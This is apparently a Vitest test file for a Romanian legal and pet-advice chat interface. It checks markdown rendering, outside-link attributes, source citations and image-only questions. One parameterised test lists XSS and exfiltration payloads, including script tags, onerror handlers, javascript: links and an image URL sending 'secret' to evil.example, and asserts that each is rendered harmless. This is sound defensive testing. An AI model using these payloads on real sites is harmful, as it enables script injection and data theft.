import type { ReactNode } from 'react'
import { renderToString } from 'react-dom/server'
import { MemoryRouter } from 'react-router'
import { expect, test } from 'vitest'
import type { ShownSource } from '#web/screens/chat/stream/reply.ts'
import { SourcesContext } from './answer-link.tsx'
import { renderMarkdown } from './markdown.tsx'
import { QuestionBubble } from '#web/screens/chat/conversation/message-log.tsx'
import { Perspectives, Sources } from './sources.tsx'

const law: ShownSource = { id: 1, title: 'Legea 205/2004', url: '/lege#art-5', kind: 'law', quote: 'Deținătorii au obligația...', checked_on: '2026-11-02' }

function markup(children: ReactNode): string {
  return renderToString(<MemoryRouter>{children}</MemoryRouter>).replaceAll(/ class="[^"]*"/g, '')
}

test.each([
  ['<img src=x onerror=alert(1)>', /<img|onerror/],
  ['<script>alert(1)</script>', /<script/],
  ['![pisică](https://evil.example/?q=secret)', /evil\.example|<img/],
  ['[apasă](javascript:alert(1))', /javascript|<a/],
  ['[apasă](//evil.example)', /evil\.example|<a/],
  ['<a href="https://evil.example" onclick="x()">apasă</a>', /onclick|<a/],
  ['[apasă](https://evil.example)', /<a|href/],
  ['<HTTPS://evil.example/auto>', /<a|href/],
  ['<ana@evil.example>', /<a|href/],
  ['[apasă][r]\n\n[r]: HTTPS://evil.example', /<a|href/],
  ['[apasă][r]\n\n[r]: <mailto:x@evil.example>', /<a|href/],
  ['[apasă][r]\n\n[r]: <tel:0900123>', /<a|href/],
  ['[apasă][r]\n\n[r]: &#104;ttps://evil.example', /<a|href/],
])('D-039 the answer %s reaches the page harmless', (text, forbidden) => {
  expect(markup(renderMarkdown(`Salut ${text}`, true))).not.toMatch(forbidden)
})

test('an outside link that a source holds opens in a new tab and tells the other site nothing; one of ours stays here', () => {
  const sources = [{ ...law, quote: 'Textul este la https://legislatie.just.ro/.' }]
  const text = '[legea](https://legislatie.just.ro/) și [ghidul](/lege), [sună](tel:112)'
  const page = markup(<SourcesContext value={{ answerId: 'a1', sources }}>{renderMarkdown(text, true)}</SourcesContext>)
  expect(page).toContain('<a href="https://legislatie.just.ro/" target="_blank" rel="noopener noreferrer nofollow ugc">legea</a>')
  expect(page).toContain('<a href="/lege" data-discover="true">ghidul</a>')
  expect(page).toContain('<a href="tel:112">sună</a>')
})

test('a half-written answer shows no half-written signs', () => {
  expect(markup(renderMarkdown('Mută **câinele la [umb', false))).toBe('<p>Mută <strong>câinele la umb</strong></p>')
})

test('S-458 a marker leads to its source, which says what it is, what it says and when it was checked', () => {
  const sources = [law]
  const page = markup(
    <SourcesContext value={{ answerId: 'a1', sources }}>
      {renderMarkdown('Ai obligația [1], nu [7].', true)}
      <Sources answerId="a1" sources={sources} />
    </SourcesContext>,
  )
  expect(page).toContain('<a href="#sursa-a1-1" aria-label="Sursa 1: Legea 205/2004"')
  expect(page).not.toContain('#sursa-a1-7')
  expect(page).toMatch(/<li id="sursa-a1-1".*href="\/lege#art-5".*Legea 205\/2004.*Deținătorii au obligația\.\.\..*Lege.*recitit la 2 noiembrie 2026/s)
})

test('S-459 each perspective opens under its label', () => {
  const page = markup(<Perspectives answerId="a1" sources={[]} perspectives={[{ label: 'Medic veterinar', text: 'Sună la cabinet.', source_ids: [] }]} />)
  expect(page).toMatch(/<details><summary>Medic veterinar<\/summary>.*Sună la cabinet\..*<\/details>/s)
})

test('S-386 a question that is only a picture shows [Imagine încărcată]', () => {
  const asked = { role: 'user', id: 'q', image: 'data:image/jpeg;base64,AAAA' } as const
  expect(markup(<QuestionBubble question={{ ...asked, text: 'Analizează această imagine și spune-mi ce vezi.' }} isLast />)).toContain('[Imagine încărcată]')
  expect(markup(<QuestionBubble question={{ ...asked, text: 'Ce rasă e?' }} isLast />)).toContain('Ce rasă e?')
})
